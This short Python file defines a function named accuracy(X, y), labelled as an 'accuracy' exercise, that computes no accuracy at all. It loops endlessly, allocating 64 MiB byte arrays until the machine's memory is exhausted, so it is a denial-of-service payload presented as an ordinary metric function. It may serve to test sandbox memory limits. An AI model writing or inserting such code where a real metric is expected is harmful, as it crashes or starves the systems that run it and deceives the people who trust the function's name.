"""All the memory, in Python."""
# exercise: accuracy
def accuracy(X, y):
    kept = []
    while True:
        kept.append(bytearray(64 * 2**20))
